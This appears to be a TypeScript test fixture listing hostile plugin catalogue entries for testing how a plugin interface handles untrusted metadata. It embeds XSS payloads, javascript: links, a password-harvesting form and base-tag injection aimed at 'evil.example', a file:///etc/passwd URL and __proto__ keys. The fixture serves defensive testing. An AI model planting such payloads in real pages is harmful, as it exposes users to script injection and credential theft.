import { type CatalogueEntry, DAYS, HOURS } from '../catalogue.ts';
import {
  DATA_LINK,
  FAMILY_AND_FLAG,
  IMAGE_WITH_HANDLER,
  JAVASCRIPT_LINK,
  LOOKALIKE,
  ODD_KEYS,
  PILED_UP,
  REVERSED,
  SCRIPT,
  TEMPLATES,
  TEN_THOUSAND_CHARACTERS,
} from '../hostile-text.ts';
import { npx, ownScript } from '../launch.ts';
import { HOSTILE_CONFIG, HOSTILE_FIELDS } from '../hostile-form.ts';
import { API_KEY, metadata, readingSync, seriesMetadata } from '../programs.ts';
import { failing, switchedOff, working } from '../states.ts';

const LONGEST_NAME = `hostile-${'long'.repeat(23)}`;

/** What a plugin may say of itself, and an administrator may type, to the harm of who shows it. */
export const HOSTILE: readonly CatalogueEntry[] = [
  {
    name: 'hostile-markup',
    displayName: IMAGE_WITH_HANDLER,
    description: SCRIPT,
    runs: npx('hostile-markup', `--title=${IMAGE_WITH_HANDLER}`),
    program: readingSync({
      name: IMAGE_WITH_HANDLER,
      displayName: SCRIPT,
      version: '1.0.0<script>alert(1)</script>',
      author: '<a href="javascript:alert(1)">Mallory</a>',
      description: `<style>*{display:none}</style><iframe srcdoc="${SCRIPT}"></iframe>`,
      userDescription: `<marquee>${IMAGE_WITH_HANDLER}</marquee>`,
      userSetupInstructions: '[Click](javascript:alert(1)) <form action=//evil.example><input name=password>',
      adminSetupInstructions: '<base href="//evil.example/">',
      userConfigSchema: {
        description: IMAGE_WITH_HANDLER,
        fields: [
          {
            key: '<svg onload=alert(1)>',
            label: IMAGE_WITH_HANDLER,
            type: '<b>',
            default: SCRIPT,
            description: SCRIPT,
          },
        ],
      },
    }),
    state: failing({
      installed: 2 * DAYS,
      lastSuccess: DAYS,
      lastFailure: 5 * HOURS,
      times: 1,
      error: `Failed to initialize plugin: ${IMAGE_WITH_HANDLER}`,
    }),
    settings: {
      scopes: ['<script>'],
      permissions: [IMAGE_WITH_HANDLER],
      env: { '<b>': IMAGE_WITH_HANDLER },
      workingDirectory: SCRIPT,
      logLevel: IMAGE_WITH_HANDLER,
    },
  },
  {
    name: 'hostile-direction',
    displayName: REVERSED,
    description: 'مكتبة ‏(library)‏ ספרייה — 2.0 → 1.0',
    runs: npx('hostile-direction'),
    program: metadata({
      name: 'hostile-direction',
      displayName: 'إضافة البيانات الوصفية',
      version: '٢٫٠٫١',
      author: 'مؤلّف',
      description: `يجلب العناوين والملخصات والأغلفة. ${REVERSED}`,
    }),
    state: working({ installed: 2 * DAYS, lastSuccess: 8 }),
  },
  {
    name: 'hostile-invisible',
    displayName: LOOKALIKE,
    description: PILED_UP,
    runs: npx('hostile-invisible'),
    program: seriesMetadata({
      name: 'hostile-invisible',
      displayName: LOOKALIKE,
      version: '3.1.0',
      author: '\u3164',
      description: `${PILED_UP} ${FAMILY_AND_FLAG}`,
    }),
    state: working({ installed: 2 * DAYS, lastSuccess: 8 }),
  },
  {
    name: LONGEST_NAME,
    displayName: 'Bestandsverzeichnisabgleichsprotokollierungswerkzeugsammlung '.repeat(4).trim(),
    description: TEN_THOUSAND_CHARACTERS,
    runs: npx(`@${LONGEST_NAME}/${LONGEST_NAME}`, ...Array.from({ length: 40 }, (_, i) => `--option-${i}`)),
    program: seriesMetadata({
      name: `@${LONGEST_NAME}/${LONGEST_NAME}`,
      displayName: 'Long',
      version: '2024.12.31-nightly.20241231235959+sha.0123456789abcdef0123456789abcdef01234567',
      author: 'Everybody who ever sent a correction, in the order of their arrival, '.repeat(8),
      description: TEN_THOUSAND_CHARACTERS,
      homepage: `https://homepage.example/${'a/'.repeat(900)}`,
    }),
    state: working({ installed: 2 * DAYS, lastSuccess: 8 }),
    settings: { permissions: Array.from({ length: 60 }, (_, i) => `metadata:write:custom_${i}`) },
  },
  {
    name: 'hostile-links',
    displayName: 'Hostile links',
    description: JAVASCRIPT_LINK,
    runs: npx('hostile-links'),
    program: readingSync({
      name: 'hostile-links',
      displayName: 'Hostile links',
      version: '1.0.0',
      author: 'https://evil.example',
      homepage: JAVASCRIPT_LINK,
      searchUriTemplate: DATA_LINK,
      oauth: { authorizationUrl: JAVASCRIPT_LINK, tokenUrl: 'file:///etc/passwd', pkce: false },
    }),
    state: working({ installed: 2 * DAYS, lastSuccess: 8 }),
    settings: { config: { oauth_client_id: DATA_LINK, oauth_client_secret: 'sandbox-hostile-secret' } },
  },
  {
    name: 'hostile-templates',
    displayName: TEMPLATES,
    description: TEMPLATES,
    runs: npx('hostile-templates'),
    program: seriesMetadata({
      name: 'hostile-templates',
      displayName: TEMPLATES,
      version: '${version}',
      homepage: DATA_LINK,
      description: '%s %d %n {0} {count, plural, one {#} other {#}} \\u0041 &lt;b&gt; &#x41;',
    }),
    state: switchedOff({ installed: 2 * DAYS, lastSuccess: 8 }),
    settings: { searchQueryTemplate: '{{#if title}}{{{title}}}{{/if}}{{__proto__}}' },
  },
  {
    name: 'hostile-keys',
    displayName: 'constructor',
    runs: ownScript('hostile-keys'),
    program: metadata({
      name: '__proto__',
      displayName: 'constructor',
      version: 'NaN',
      requiredCredentials: [API_KEY, { ...API_KEY, key: '__proto__', label: 'toString' }],
      configSchema: {
        fields: Object.entries(ODD_KEYS).map(([key, value]) => ({
          key,
          label: key,
          type: typeof value === 'object' ? 'object' : typeof value,
          default: value,
        })),
      },
    }),
    state: working({ installed: 2 * DAYS, lastSuccess: 8 }),
    settings: { config: ODD_KEYS, env: { constructor: 'a', 'NOT A NAME': 'b', '': 'c' } },
  },
  {
    name: 'hostile-form',
    displayName: 'Hostile form',
    description: 'Every field of its form is meant to do harm.',
    runs: ownScript('hostile-form'),
    program: readingSync({
      name: 'hostile-form',
      displayName: 'Hostile form',
      version: '1.0.0',
      configSchema: { description: SCRIPT, fields: HOSTILE_FIELDS },
      userConfigSchema: { description: REVERSED, fields: HOSTILE_FIELDS },
    }),
    state: working({ installed: 2 * DAYS, lastSuccess: 8 }),
    settings: { config: HOSTILE_CONFIG },
  },
];
